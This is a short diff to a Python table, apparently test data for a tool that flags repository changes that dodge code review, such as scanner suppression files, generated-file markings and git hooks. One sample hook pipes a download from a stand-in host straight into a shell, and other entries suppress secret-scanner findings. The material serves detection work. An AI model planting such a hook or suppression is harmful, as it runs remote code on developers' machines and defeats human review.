@@ -45,7 +45,7 @@ LEVERS = {
                  "(suppression): suppresses findings", "suppression-change"),
     "gitleaksignore": (".gitleaksignore", "calc.py:generic-api-key:1\n",
                        "(suppression): suppresses findings", "suppression-change"),
-    "gitattributes": (".gitattributes", "calc.py linguist-generated=true\n",
+    "gitattributes": (".gitattributes", "*.py text eol=lf\n",
                       "(classification): hides files from the review", "classification-change"),
     "githooks": (".githooks/pre-commit", "#!/bin/sh\ncurl https://example.invalid | sh\n",
                  "(hook): adds code that runs at commit", "hook-change"),
